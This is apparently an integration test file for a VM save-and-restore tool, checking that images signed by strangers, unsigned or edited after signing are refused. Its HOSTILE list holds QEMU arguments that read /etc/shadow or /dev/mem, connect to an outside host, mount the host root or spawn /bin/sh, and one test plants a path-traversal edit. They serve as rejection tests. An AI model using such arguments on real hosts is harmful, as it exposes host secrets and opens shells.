//! An image is code: whose it is decides what a restore may use of this host.

#![allow(missing_docs, clippy::unwrap_used, reason = "this is a test")]

mod support;

use std::fs::File;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use vmstow::bytes::Sink;
use vmstow::container::manifest::Manifest;
use vmstow::container::{Edit, Image, SectionType, Signature};

use support::{Guest, GuestSpec, Mark, Serial, TestDir};

/// A guest that was saved to `x.stow` by the user of this directory, and what it had said by then.
struct Saved {
    dir: TestDir,
    disk: PathBuf,
    serial: Serial,
    before: Mark,
}

fn save(arguments: &[&str]) -> Saved {
    let dir = TestDir::new();
    let spec = GuestSpec {
        memory_mib: 16,
        ..GuestSpec::default().named("web01")
    };
    let mut guest = Guest::start(&dir, spec);
    guest.serial().wait_for_tick(5);
    let source = guest.source();
    let words = [&["save", &source, "x.stow"], arguments].concat();
    dir.json(&words);
    guest.wait_for_exit();
    let (disk, serial) = (guest.disk(), guest.serial());
    let before = serial.mark();
    Saved {
        dir,
        disk,
        serial,
        before,
    }
}

impl Saved {
    /// From now on the program runs for somebody who never saw this host's key.
    fn by_another_user(self) -> Self {
        std::fs::rename(self.dir.join("state"), self.dir.join("state.old")).unwrap();
        self
    }

    fn public_key(&self) -> String {
        let old = self.dir.join("state.old/vmstow/signing_key.pub");
        let now = self.dir.join("state/vmstow/signing_key.pub");
        std::fs::read_to_string(old)
            .or_else(|_| std::fs::read_to_string(now))
            .unwrap()
    }

    fn trust_state(&self) -> String {
        let inspected = self.dir.json(&["inspect", "x.stow"])["trust"]["state"].clone();
        let verified = self.dir.json(&["verify", "--quick", "x.stow"])["trust"]["state"].clone();
        assert_eq!(inspected, verified);
        inspected.as_str().unwrap().to_owned()
    }

    /// Refused for trust, with every resource that would be used; no QEMU was started.
    #[track_caller]
    fn assert_refused(&self, arguments: &[&str]) -> String {
        let said = self
            .dir
            .refused(6, &[&["restore", "x.stow"], arguments].concat());
        assert!(said.contains("web01 was not restored"), "{said}");
        assert!(said.contains("try:") && said.contains("--trust"), "{said}");
        assert!(self.dir.processes().is_empty());
        assert_eq!(self.serial.text(), self.before.text());
        said
    }

    #[track_caller]
    fn assert_goes_on(&self, arguments: &[&str]) {
        let restored = self.dir.restore(&[&["x.stow"], arguments].concat());
        self.serial.assert_goes_on(&self.before);
        drop(restored);
    }

    fn image(&self) -> Image<Vec<u8>> {
        Image::open(std::fs::read(self.dir.join("x.stow")).unwrap()).unwrap()
    }

    /// Gives the image another manifest, as anybody with an editor could; the signatures stay.
    fn change_manifest(&self, change: impl FnOnce(&mut Manifest)) {
        let image = self.image();
        let mut manifest = image.manifest().unwrap();
        change(&mut manifest);
        let mut bytes = image.reader().clone();
        let mut edit = Edit::begin(&image, &mut bytes as &mut dyn Sink).unwrap();
        let json = manifest.to_json().unwrap();
        edit.replace(SectionType::Manifest, &json).unwrap();
        edit.finish().unwrap();
        std::fs::write(self.dir.join("x.stow"), bytes).unwrap();
    }

    /// Disk and serial port of one's own.
    fn remaps(&self) -> [String; 6] {
        let disk = self.dir.join("mine.img");
        std::fs::copy(&self.disk, &disk).unwrap();
        let (disk, serial) = (disk.display(), self.dir.join("mine.serial"));
        [
            "--remap".to_owned(),
            format!("disk:disk0={disk}"),
            "--remap".to_owned(),
            format!("chardev:serial0=file:{}", serial.display()),
            "--remap".to_owned(),
            "net:*=user".to_owned(),
        ]
    }
}

#[test]
fn ssh_keygen_agrees_with_our_signatures() {
    let saved = save(&[]);
    let image = saved.image();
    let signatures = image.signatures().unwrap();
    let [Signature { statement, armored }] = &signatures[..] else {
        panic!("one signature: {signatures:?}");
    };
    assert_eq!(*statement, image.statement());
    let at = |name: &str| saved.dir.join(name);
    std::fs::write(at("statement.sig"), armored).unwrap();
    let signers = format!("me namespaces=\"vmstow\" {}", saved.public_key());
    std::fs::write(at("signers"), signers).unwrap();
    let judge = |statement: &str| {
        std::fs::write(at("statement"), statement).unwrap();
        let mut ssh_keygen = Command::new("ssh-keygen");
        ssh_keygen.args(["-Y", "verify", "-n", "vmstow", "-I", "me"]);
        ssh_keygen
            .arg("-f")
            .arg(at("signers"))
            .arg("-s")
            .arg(at("statement.sig"));
        let ssh_keygen = ssh_keygen.stdin(File::open(at("statement")).unwrap());
        let status = ssh_keygen
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        status
            .expect("ssh-keygen runs (Debian package openssh-client)")
            .success()
    };
    assert!(judge(statement));
    assert!(!judge(&statement.replace("image-uuid", "image_uuid")));
    assert_eq!(saved.trust_state(), "trusted");
}

#[test]
fn an_image_of_a_stranger_is_refused_with_all_that_it_would_use() {
    let saved = save(&[]).by_another_user();
    assert_eq!(saved.trust_state(), "stranger");
    let said = saved.assert_refused(&[]);
    assert!(said.contains("whom you do not trust"), "{said}");
    for path in [&saved.disk, saved.serial.path()] {
        assert!(said.contains(&path.display().to_string()), "{said}");
    }
    saved.assert_refused(&["--dry-run"]);
    saved.assert_refused(&["--print-command"]);
    saved.assert_goes_on(&["--trust"]);
}

#[test]
fn an_allowed_signer_is_trusted() {
    let saved = save(&[]).by_another_user();
    saved.assert_refused(&[]);
    std::fs::create_dir(saved.dir.join("config/vmstow")).unwrap();
    let allowed = format!("# our hosts\nops@example.org {}", saved.public_key());
    std::fs::write(saved.dir.join("config/vmstow/allowed_signers"), allowed).unwrap();
    assert_eq!(saved.trust_state(), "trusted");
    saved.assert_goes_on(&[]);
}

#[test]
fn an_image_of_a_stranger_runs_on_resources_of_ones_own() {
    let saved = save(&[]).by_another_user();
    let remaps = saved.remaps();
    let remaps: Vec<&str> = remaps.iter().map(String::as_str).collect();
    let said = saved.assert_refused(&remaps[..2]);
    assert!(
        !said.contains("mine.img") && said.contains("web01.serial"),
        "{said}"
    );
    let restored = saved.dir.restore(&[&["x.stow"], &remaps[..]].concat());
    let foreign = [&saved.disk, saved.serial.path()].map(|path| path.display().to_string());
    for word in restored.qemu.argv() {
        assert!(!foreign.iter().any(|path| word.contains(path)), "{word}");
    }
    let open = std::fs::read_dir(format!("/proc/{}/fd", restored.qemu.pid())).unwrap();
    for file in open.filter_map(|entry| std::fs::read_link(entry.unwrap().path()).ok()) {
        assert!(!foreign.contains(&file.display().to_string()), "{file:?}");
    }
    Serial::at(saved.dir.join("mine.serial")).assert_goes_on(&saved.before);
    assert_eq!(saved.serial.text(), saved.before.text());
}

#[test]
fn an_unsigned_image_is_a_strangers() {
    let saved = save(&["--no-sign"]);
    assert_eq!(saved.trust_state(), "unsigned");
    let said = saved.assert_refused(&[]);
    assert!(said.contains("is not signed"), "{said}");
    saved.assert_goes_on(&["--trust"]);
}

#[test]
fn a_signature_does_not_outlive_an_edit_of_what_it_signs() {
    let saved = save(&[]);
    assert_eq!(saved.trust_state(), "trusted");
    saved.change_manifest(|manifest| {
        for word in &mut manifest.qemu.argv {
            *word = word.replace("web01.img", "../../../etc/shadow");
        }
    });
    assert_eq!(saved.trust_state(), "stale");
    let said = saved.assert_refused(&[]);
    assert!(
        said.contains("no signature that matches what it holds"),
        "{said}"
    );
    assert!(said.contains("etc/shadow"), "{said}");
}

/// Arguments with which a stranger's image would use this host, although its disk and its port were remapped.
const HOSTILE: [&[&str]; 30] = [
    &["-drive", "file=/etc/shadow,format=raw,if=none,id=x"],
    &[
        "-drive",
        "file=nbd://198.51.100.1/x,format=raw,if=none,id=x",
    ],
    &[
        "-drive",
        "file=json:{\"driver\":\"file\"%2C\"filename\":\"/etc/shadow\"},if=none,id=x",
    ],
    &["-drive", "file=fat:rw:/etc,format=raw,if=none,id=x"],
    &[
        "-blockdev",
        "{\"driver\":\"file\",\"node-name\":\"x\",\"filename\":\"/etc/shadow\"}",
    ],
    &[
        "-blockdev",
        "driver=nbd,node-name=x,server.type=inet,server.host=198.51.100.1,server.port=1",
    ],
    &["-set", "drive.disk0.file=/etc/shadow"],
    &["-hdb", "/etc/shadow"],
    &["-kernel", "/etc/shadow"],
    &["-fw_cfg", "name=opt/x,file=/etc/shadow"],
    &["-smbios", "file=/etc/shadow"],
    &["-acpitable", "file=/etc/shadow"],
    &["-device", "loader,file=/etc/shadow"],
    &["-device", "e1000,romfile=/etc/shadow"],
    &["-device", "vfio-pci,host=0000:00:01.0"],
    &["-device", "usb-host,hostbus=1,hostaddr=1"],
    &["-object", "secret,id=x,file=/etc/shadow"],
    &[
        "-object",
        "memory-backend-file,id=x,size=1M,mem-path=/dev/mem",
    ],
    &["-object", "rng-random,id=x,filename=/dev/mem"],
    &[
        "-object",
        "{\"qom-type\":\"rng-random\",\"id\":\"x\",\"filename\":\"/dev/mem\"}",
    ],
    &["-object", "input-linux,id=x,evdev=/dev/input/event0"],
    &["-chardev", "file,id=x,path=/etc/cron.d/x"],
    &["-chardev", "socket,id=x,host=198.51.100.1,port=1"],
    &["-serial", "tcp:198.51.100.1:1"],
    &["-netdev", "user,id=x,guestfwd=tcp:10.0.2.100:1-cmd:/bin/sh"],
    &["-netdev", "user,id=x,hostfwd=tcp:0.0.0.0:2222-:22"],
    &["-netdev", "socket,id=x,connect=198.51.100.1:1"],
    &["-virtfs", "local,path=/,mount_tag=x,security_model=none"],
    &["-vnc", "0.0.0.0:7"],
    &["-plugin", "/tmp/x.so"],
];

#[test]
fn no_argument_of_a_stranger_reaches_this_host() {
    let saved = save(&["--no-sign"]);
    // Without the remap of all networks, which would make a harmless one of any.
    let remaps = &saved.remaps()[..4];
    let clean = std::fs::read(saved.dir.join("x.stow")).unwrap();
    let code_with = |hostile: &[&str]| {
        std::fs::write(saved.dir.join("x.stow"), &clean).unwrap();
        saved.change_manifest(|manifest| {
            let words = ["-nic", "none"].iter().chain(hostile);
            let words = words.map(|&word| word.to_owned());
            manifest.qemu.argv.extend(words);
        });
        let mut restore = saved.dir.vmstow();
        let restore = restore
            .args(["restore", "x.stow", "--dry-run"])
            .args(remaps);
        restore.output().unwrap().status.code()
    };
    assert_eq!(code_with(&[]), Some(0));
    let accepted = HOSTILE
        .iter()
        .filter(|hostile| code_with(hostile) != Some(6));
    let accepted: Vec<_> = accepted.collect();
    assert!(accepted.is_empty(), "{accepted:#?}");
}
